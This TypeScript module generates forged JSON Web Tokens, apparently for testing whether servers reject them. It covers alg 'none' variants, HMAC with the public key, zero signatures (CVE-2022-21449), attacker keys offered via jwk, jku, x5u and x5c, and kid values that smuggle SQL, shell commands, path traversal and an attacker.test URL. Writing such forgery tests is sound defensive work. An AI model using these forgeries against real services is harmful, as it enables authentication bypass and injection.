// Tokens that the run's key has not signed, or not by its own algorithm: nobody's signature, a key that the token brings along
// or points to, a key that everybody has.
import { CompactEncrypt, importJWK, type JWK, SignJWT } from 'jose';
import type { Algorithm } from '../../../servers/tokens/algorithms.ts';
import { encode, hmac, type Members, type Sign, signerOf, token } from './forging.ts';
import { certificateOf, publicJwk, publicKeySpellings } from './public-keys.ts';
import type { Parts } from './signed-forgeries.ts';

export interface Keys extends Parts {
  readonly algorithm: Algorithm;
  readonly key: JWK;
  readonly foreignKey: JWK;
}

const unsigned: Sign = async () => '';

/** What a signature says that is of no key. */
const spellingsOfNone = ['none', 'None', 'NONE', 'nOnE', 'none ', ''];

/** The other algorithms that a key would do for, by its type (RFC 7518, RFC 9864). */
const siblings: Record<string, readonly string[]> = {
  oct: ['HS256', 'HS384', 'HS512'],
  RSA: ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512'],
  OKP: ['EdDSA', 'Ed25519'],
};

/** Names that make a careless look-up of a key by `kid` find one that the attacker knows, and that key. */
const kids: Record<string, readonly [kid: unknown, secret: string]> = {
  'an empty file': ['../../../../../../dev/null', ''],
  'a file that all know': ['../../package.json', '{}'],
  'a query': ["' UNION SELECT 'known' -- ", 'known'],
  'a command': ['x; echo known', 'known'],
  'an address': ['https://attacker.test/key', 'known'],
  'a prototype': ['__proto__', '[object Object]'],
  'a method': ['constructor', 'function Object() { [native code] }'],
  nothing: ['', ''],
  'four thousand characters': ['x'.repeat(4_000), ''],
  null: [null, 'null'],
  'a number': [0, ''],
  'an object': [{ toString: 'known' }, ''],
  'an array': [[], ''],
};

export async function keyForgeries(keys: Keys): Promise<Record<string, string>> {
  return {
    ...(await withoutKey(keys)),
    ...(await byKnownSecret(keys)),
    ...(await byOtherAlgorithm(keys)),
    ...(await byForeignKey(keys)),
    ...(await encrypted(keys)),
  };
}

async function withoutKey({ header, claims, sign }: Keys): Promise<Record<string, string>> {
  const made: Record<string, string> = {};
  for (const alg of spellingsOfNone) {
    made[`alg "${alg}", no signature`] = await token({ ...header, alg }, claims, unsigned);
    made[`alg "${alg}" alone, no signature`] = await token({ alg, typ: header.typ }, claims, unsigned);
  }
  const signature = await sign('another text');
  const zeros = Buffer.alloc(Buffer.from(signature, 'base64url').length);
  return {
    ...made,
    'alg "none", no last dot': (await token({ ...header, alg: 'none' }, claims, unsigned)).slice(0, -1),
    'no signature': await token(header, claims, unsigned),
    'a signature of another text': await token(header, claims, async () => signature),
    // Zeros once were good for every text (CVE-2022-21449).
    'a signature of zeros': await token(header, claims, async () => zeros.toString('base64url')),
    'a signature that is a word': await token(header, claims, async () => encode('signature')),
    'alg twice, the first none, no signature': `${encode(
      `{"alg":"none",${JSON.stringify(header).slice(1)}`,
    )}.${encode(claims)}.`,
  };
}

/** RFC 8725 section 2.1: a public key taken for a secret. And secrets that are none. */
async function byKnownSecret({ header, claims, key }: Keys): Promise<Record<string, string>> {
  const made: Record<string, string> = {};
  const by = (secret: string | Buffer, changes: Members = {}, hash = 'sha256') =>
    token({ ...header, alg: `HS${hash.slice(3)}`, ...changes }, claims, hmac(secret, hash));
  for (const [spelling, secret] of Object.entries(publicKeySpellings(key))) {
    made[`HS256 with the public key: ${spelling}`] = await by(secret);
    made[`the algorithm as it is, HMAC with the public key: ${spelling}`] = await by(secret, { alg: header.alg });
    if (spelling !== 'PEM') continue;
    made['HS384 with the public key: PEM'] = await by(secret, {}, 'sha384');
    made['HS512 with the public key: PEM'] = await by(secret, {}, 'sha512');
  }
  for (const secret of ['', 'secret', 'changeme', String(header.kid), String(header.alg)])
    made[`HS256 with "${secret}"`] = await by(secret);
  for (const [name, [kid, secret]] of Object.entries(kids)) made[`kid of ${name}`] = await by(secret, { kid });
  return made;
}

/** By the run's key, but not by the algorithm that the servers were told: theirs is the choice (RFC 8725 section 3.1). */
async function byOtherAlgorithm({ header, claims, key, algorithm, sign }: Keys): Promise<Record<string, string>> {
  const made: Record<string, string> = {};
  for (const alg of siblings[key.kty ?? ''] ?? []) {
    if (alg === algorithm) continue;
    const { alg: _, ...material } = key;
    made[`the right key by ${alg}`] = await new SignJWT(claims)
      .setProtectedHeader({ ...header, alg })
      .sign(await importJWK(material, alg));
    made[`the right signature, called ${alg}`] = await token({ ...header, alg }, claims, sign);
  }
  return made;
}

/** A key of the attacker's own, of the right algorithm, and all ways in which a token can offer it (RFC 8725 section 3.10). */
async function byForeignKey({ header, claims, algorithm, foreignKey }: Keys): Promise<Record<string, string>> {
  const foreign = await signerOf(foreignKey, algorithm);
  const { kid } = foreignKey;
  const jwk = foreignKey.kty === 'oct' ? foreignKey : publicJwk(foreignKey);
  const certificate = certificateOf(foreignKey);
  const at = 'https://attacker.test/keys';
  const offers: Record<string, Members> = {
    "another key, the right one's kid": {},
    'another key, its own kid': { kid },
    'another key, no kid': { kid: undefined },
    'jwk in the header': { jwk },
    'jwk in the header, its kid': { jwk, kid },
    jku: { jku: at, kid },
    'jku of this machine': { jku: 'http://127.0.0.1/keys', kid },
    'jku with data in it': { jku: `data:application/json,${JSON.stringify({ keys: [jwk] })}`, kid },
    x5u: { x5u: at, kid },
    ...(certificate === null ? {} : { x5c: { x5c: [certificate] }, 'x5c, its kid': { x5c: [certificate], kid } }),
  };
  const made: Record<string, string> = {};
  for (const [name, offer] of Object.entries(offers))
    made[name] = await token({ ...header, ...offer }, claims, foreign);
  return made;
}

/** Tokens that are encrypted (RFC 7516), with the run's secret where there is one: no signature, whoever can read them. */
async function encrypted({ header, claims, key, sign }: Keys): Promise<Record<string, string>> {
  const secret = key.kty === 'oct' ? Buffer.from(String(key.k), 'base64url') : Buffer.alloc(32, 1);
  const encrypt = (text: string, more: Members) =>
    new CompactEncrypt(Buffer.from(text))
      .setProtectedHeader({ ...more, alg: 'dir', enc: 'A256GCM', typ: String(header.typ), kid: String(header.kid) })
      .encrypt(secret);
  return {
    'claims encrypted': await encrypt(JSON.stringify(claims), {}),
    'a token encrypted': await encrypt(await token(header, claims, sign), { cty: 'JWT' }),
  };
}
